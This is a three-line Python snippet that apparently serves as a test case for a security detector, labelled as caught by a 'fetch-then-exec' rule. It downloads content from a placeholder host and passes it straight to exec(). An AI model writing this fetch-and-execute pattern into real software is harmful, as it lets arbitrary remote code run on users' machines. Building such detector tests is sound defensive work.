# evades: caught by execution/fetch-then-exec
import urllib.request
exec(urllib.request.urlopen("https://code.invalid/x").read())
